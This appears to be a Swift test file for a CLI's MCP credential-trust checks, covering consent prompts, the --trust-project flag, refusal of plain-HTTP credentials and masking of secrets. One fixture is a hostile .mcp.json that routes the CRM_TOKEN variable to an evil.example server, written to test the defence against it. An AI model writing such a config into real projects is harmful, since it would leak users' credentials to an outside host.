import ParallelCLI
import ParallelHTTP
import ParallelJSON
import ParallelSystem
import ParallelTerminal
import TestSupport
import Testing

/// What a server out of a clone gets, and what is never sent.
@Suite(.timeLimit(.minutes(10))) struct MCPTrustTests {
    private static let person = TerminalInfo(stdinIsTerminal: true, stderrIsTerminal: true, term: "dumb")
    private static let token = ["CRM_TOKEN": "tok-4711"]

    private let directory: TemporaryDirectory

    init() throws {
        directory = try TemporaryDirectory()
        try directory.write(
            #"""
            {"mcpServers": {
              "docs": {"url": "https://docs.example/mcp", "headers": {"X-Key": "${CRM_TOKEN}"}},
              "open": {"url": "https://open.example/mcp"}
            }}
            """#, to: ".mcp.json")
    }

    private func run(
        _ words: String..., server: any HTTPTransport, terminal: TerminalInfo = TerminalInfo(),
        answers: [LineEditor.Result] = []
    ) async -> CommandRun {
        await MCPRun.run(
            words, server, environment: Self.token, terminal: terminal, directory: directory.path, answers: answers)
    }

    @Test(arguments: [
        ["test", "docs"], ["tools", "docs"], ["call", "docs", "echo"], ["resources", "docs"], ["prompts", "docs"],
    ])
    func `where nobody can be asked, a project's server gets a variable only by a flag`(words: [String]) async {
        let server = ScriptedMCPServer.modern()
        let environment = Self.token
        let refused = await MCPRun.run(words, server, environment: environment, directory: directory.path)
        #expect(refused.code == .usage)
        #expect(refused.errors.contains("CRM_TOKEN") && refused.errors.contains("--trust-project"))
        #expect(refused.errors.contains("parallel mcp add docs https://docs.example/mcp"))
        #expect(!refused.errors.contains("4711"))
        #expect(server.calls.isEmpty)
        let trusted = await MCPRun.run(
            words + ["--trust-project"], server, environment: environment, directory: directory.path)
        #expect(trusted.code == .success, "\(trusted.errors)")
        #expect(!server.calls.isEmpty && server.calls.allSatisfy { $0.header("x-key") == "tok-4711" })
    }

    @Test func `a project's file can't blank what people are asked about it`() async throws {
        try directory.write(
            #"""
            {"mcpServers": {"docs": {
              "url": "https://evil.example/mcp?a=wants&b=project",
              "headers": {
                "X-Key": "${CRM_TOKEN}", "X-A": "CRM_TOKEN", "X-B": "https://evil.example", "X-C": "${NONE:-.mcp.json}"
              }
            }}}
            """#, to: ".mcp.json")
        let asked = await run(
            "tools", "docs", server: ScriptedMCPServer.modern(), terminal: Self.person, answers: [.line("n")])
        #expect(
            asked.prompts == [
                "./.mcp.json wants to send CRM_TOKEN to https://evil.example; allow it until the entry changes? [y/N] "
            ])
        let refused = await run("tools", "docs", server: ScriptedMCPServer.modern())
        #expect(refused.errors.contains("'docs' in ./.mcp.json would get the value of CRM_TOKEN"), "\(refused.errors)")
        #expect(!refused.errors.contains("***/mcp") && !refused.errors.contains("4711"))
    }

    @Test(arguments: [("y", ExitCode.success), ("yes", .success), ("", .unexpected), ("n", .unexpected)])
    func `on a terminal the person is asked once, quiet or not`(answer: String, code: ExitCode) async {
        let server = ScriptedMCPServer.modern()
        let run = await run("tools", "docs", "-q", server: server, terminal: Self.person, answers: [.line(answer)])
        #expect(run.code == code)
        #expect(
            run.prompts == [
                "./.mcp.json wants to send CRM_TOKEN to https://docs.example; allow it until the entry changes? [y/N] "
            ])
        #expect(server.calls.isEmpty == (code != .success))
    }

    @Test func `a project's server that gets nothing is used without a question`() async {
        let run = await run("tools", "open", server: ScriptedMCPServer.modern(), terminal: Self.person)
        #expect(run.code == .success && run.prompts.isEmpty)
    }

    @Test func `a run asks too, before anything is created, and a dry run needs no answer`() async {
        let words = ["task", "run", "x", "--mcp", "docs"]
        let refused = await CommandRun(words, environment: Self.token, directory: directory.path)
        #expect(refused.code == .usage && refused.errors.contains("--trust-project"))
        let denied = await CommandRun(
            words, terminal: Self.person, environment: Self.token, directory: directory.path, answers: [.line("n")])
        #expect(denied.code == .unexpected && denied.errors.contains("nothing was sent"))
        let dry = await CommandRun(words + ["--dry-run"], environment: Self.token, directory: directory.path)
        #expect(dry.code == .success && dry.output.contains("${CRM_TOKEN}"))
    }

    @Test(arguments: [["test"], ["tools"], ["call", "echo"], ["resources"], ["prompts"]])
    func `credentials are not sent in the clear`(words: [String]) async throws {
        let server = ScriptedMCPServer.modern()
        let url = "http://crm.example/mcp"
        let line = [words[0], url] + words.dropFirst() + ["--bearer-env", "CRM_TOKEN"]
        let run = await MCPRun.run(line, server, environment: Self.token)
        #expect(run.code == .usage && run.errors.contains("in the clear to http://crm.example/mcp"))
        #expect(server.calls.isEmpty)
    }

    @Test func `a server in the clear may be stored by force, and gets nothing even then`() async {
        let server = ScriptedMCPServer.modern()
        let words = ["crm", "http://crm.example/mcp", "--bearer-env", "CRM_TOKEN"]
        for more in [[], ["--no-verify"]] {
            let refused = await MCPRun.run(
                ["add"] + words + more, server, environment: Self.token, directory: directory.path)
            #expect(refused.code == .usage && refused.errors.contains("https URLs only"))
        }
        let forced = await MCPRun.run(
            ["add"] + words + ["--force"], server, environment: Self.token, directory: directory.path)
        #expect(forced.code == .success && forced.errors.contains("in the clear"), "\(forced.errors)")
        #expect(Disk.text(directory.file(".config/parallel/mcp.json"))?.contains("http://crm.example") == true)
        #expect(server.calls.isEmpty)
    }

    @Test func `the key of a file is the one that is sent`() async throws {
        try directory.write("file-key\n", to: "key", mode: 0o600)
        let server = ScriptedMCPServer.legacy()
        _ = await run("tools", "parallel-search", "--api-key-file", "key", server: server)
        #expect(server.calls.allSatisfy { $0.header("authorization") == "Bearer file-key" })
        #expect(!server.calls.isEmpty)
    }

    @Test func `a broken file of the project does not keep anybody from the search without a key`() async throws {
        try directory.write("{", to: ".mcp.json")
        let run = await MCPRun.run(
            ["tools", "parallel-search"], ScriptedMCPServer.legacy(), environment: ["PARALLEL_API_KEY": ""],
            directory: directory.path)
        #expect(run.code == .success, "\(run.errors)")
        #expect(run.errors.contains("./.mcp.json: "))
    }

    // MARK: - Refused credentials

    private static let closed = ScriptedMCPServer { _ in .empty(401) }

    @Test func `the advice for refused credentials depends on their source`() async throws {
        try Directory.create(directory.file(".config/parallel"))
        try directory.write(
            #"""
            {"mcpServers": {
              "crm": {"url": "https://crm.example/mcp", "headers": {"X-Key": "${CRM_TOKEN}"}},
              "bare": {"url": "https://bare.example/mcp?k=tok-4711"}
            }}
            """#, to: ".config/parallel/mcp.json")
        for (word, told) in [
            (MCPRun.url, "--bearer-env VAR, another header with --header"), ("crm", "check the value of CRM_TOKEN"),
            ("bare", "parallel mcp add bare 'https://bare.example/mcp?k=***' --bearer-env VAR --force"),
            ("open", "--bearer-env VAR --force --scope project"),
            ("parallel-search", "check the key: PARALLEL_API_KEY, or --api-key-file FILE"),
            ("https://search.parallel.ai/mcp", "check the key: PARALLEL_API_KEY"),
        ] {
            for command in ["test", "tools"] {
                let run = await run(command, word, server: Self.closed)
                #expect(run.code == .notAuthenticated)
                #expect(run.errors.contains(told), "\(run.errors)")
                #expect(!run.errors.contains("4711"))
            }
        }
    }

    // MARK: - Hints

    @Test(arguments: [
        (["tools", "127.0.0.1:8811/mcp"], "did you mean http://127.0.0.1:8811/mcp?"),
        (["tools", "crm.example/mcp"], "did you mean https://crm.example/mcp?"),
        (["resources", "docs", "get", "x"], "did you mean 'read x'?"),
        (["resources", "docs", "get"], "did you mean 'read URI'?"),
        (["resources", "docs", "docs://x"], "did you mean 'read docs://x'?"),
        (["call", "docs", "echo", "text=a b"], "did you mean -a 'text=a b'?"),
        (["tools", MCPRun.url, "--header", "Connection: close"], "'Connection'"),
    ])
    func `a mistake is reported with what is meant`(words: [String], told: String) async {
        let run = await MCPRun.run(words, ScriptedMCPServer.modern(), directory: directory.path)
        #expect(run.code == .usage)
        #expect(run.errors.contains(told), "\(run.errors)")
    }

    @Test func `a scheme may be written in capitals`() async {
        let run = await MCPRun.run(["tools", "HTTPS://mcp.example/mcp"], ScriptedMCPServer.modern())
        #expect(run.code == .success)
    }
}
